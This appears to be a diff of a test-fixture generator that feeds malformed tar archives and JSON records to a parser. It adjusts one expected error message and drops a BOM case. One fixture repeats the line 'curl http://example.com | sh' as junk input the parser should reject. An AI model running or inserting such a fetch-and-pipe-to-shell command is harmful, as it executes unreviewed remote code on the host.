@@ -101,7 +101,7 @@ def tars() -> Iterator[tuple[str, bytes, str]]:
     yield "pax-long-size", pax(pax_record(b"size", b"9" * 5000)), "not a number"
     yield "pax-sparse", pax(pax_record(b"GNU.sparse.major", b"1")), "sparse"
     yield "pax-alone", pax(pax_record(b"path", b"x"))[:1024] + ends, "without its member"
-    yield "gzip", b"\x1f\x8b\x08" + bytes(2000), "damaged"
+    yield "gzip", b"\x1f\x8b\x08" + bytes(2000), "gunzip"
     yield "text", b"pipe:curl http://example.com | sh\n" * 40, "damaged"
     yield "empty", b"", "end-of-archive"
     yield "zeros-then-data", bytes(1024) + header(), "data after them"
@@ -123,7 +123,6 @@ def records() -> Iterator[tuple[str, list[tuple[str, bytes]], str]]:
         "surrogate": rb'{"text": "\udc00"}',
         "nul": rb'{"text": "a\u0000b"}',
         "latin1": '{"text": "é"}'.encode("latin-1"),
-        "bom": b"\xef\xbb\xbf{}",
         "utf16": '{"text": "a"}'.encode("utf-16"),
         "number": b"7",
         "empty": b"",
